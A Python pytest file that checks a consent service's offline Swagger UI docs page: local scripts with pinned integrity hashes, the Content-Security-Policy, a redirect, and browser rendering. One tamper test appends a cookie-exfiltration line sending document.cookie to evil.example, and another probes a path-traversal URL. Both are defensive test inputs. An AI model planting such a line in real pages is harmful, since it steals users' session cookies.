"""/docs works without internet (issue 17 item 3): Swagger UI from the swagger-ui-bundle package's
own files, each script integrity-checked, under the same Content-Security-Policy as the pages."""

from __future__ import annotations

import base64
import hashlib
import re
import shutil
import time

import pytest
from test_web_browser import browser, live_server

from consent_service.views import docs
from consent_service.views.security import HTML_CSP

__all__ = ["browser", "live_server"]  # test_web_browser's fixtures, used here


def sri(data: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()


def test_the_page_loads_only_this_origins_files_each_with_its_integrity(client):
    page = client.get("/docs")
    assert page.status_code == 200 and page.mimetype == "text/html"
    assert page.headers["Content-Security-Policy"] == HTML_CSP
    html = page.get_data(as_text=True)
    assert "cdn" not in html.lower() and "http:" not in html and "https:" not in html
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
    assert len(scripts) == 3
    assert all(body.strip() == "" for _, body in scripts)  # no inline script
    tags = [attrs for attrs, _ in scripts] + re.findall(r"<link([^>]*stylesheet[^>]*)>", html)
    for attrs in tags:
        src = re.search(r'(?:src|href)="([^"]+)"', attrs).group(1)
        integrity = re.search(r'integrity="([^"]+)"', attrs).group(1)
        assert src.startswith("/"), src
        served = client.get(src)
        assert served.status_code == 200, src
        assert sri(served.get_data()) == integrity, src
        served.close()


def test_the_pinned_hashes_are_those_of_the_installed_package():
    folder = docs.bundle_folder()
    differ = [name for name, pin in docs.PINNED.items() if docs.sri((folder / name).read_bytes()) != pin]
    assert differ == []


def test_a_changed_package_file_is_not_served(client, tmp_path, monkeypatch):
    copy = tmp_path / "bundle"
    shutil.copytree(docs.bundle_folder(), copy)
    with (copy / "swagger-ui-bundle.js").open("a") as f:
        f.write("\nfetch('https://evil.example/?' + document.cookie);\n")
    monkeypatch.setattr(docs, "bundle_folder", lambda: copy)
    docs.verified.cache_clear()
    try:
        assert client.get("/docs/assets/swagger-ui-bundle.js").status_code == 404
        assert client.get("/docs/assets/swagger-ui.css").status_code == 200  # unchanged
        assert client.get("/docs/assets/index.html").status_code == 404  # not pinned
        assert client.get("/docs/assets/..%2Fvendor").status_code == 404
    finally:
        docs.verified.cache_clear()


def test_the_former_address_redirects(client):
    response = client.get("/swagger")
    assert response.status_code == 308 and response.headers["Location"].endswith("/docs")


def test_the_page_renders_in_a_browser_with_no_network_and_no_csp_violation(browser, live_server):
    """Chromium with every other host unreachable: the API's title appears, nothing is refused."""
    from selenium.webdriver.common.by import By

    browser.get(live_server + "/docs")
    deadline = time.monotonic() + 30
    titles: list = []
    while time.monotonic() < deadline and not titles:
        titles = browser.find_elements(By.CSS_SELECTOR, ".swagger-ui .info .title")
        time.sleep(0.2)
    assert titles and "consent_service" in titles[0].text
    assert browser.find_elements(By.CSS_SELECTOR, ".opblock-tag")  # the operations, by blueprint
    problems = [
        entry["message"]
        for entry in browser.get_log("browser")
        if entry["level"] == "SEVERE"
        and re.search(r"Content Security Policy|integrity|Refused", entry["message"])
    ]
    assert problems == []


@pytest.fixture(autouse=True)
def _fresh_cache() -> None:
    docs.verified.cache_clear()
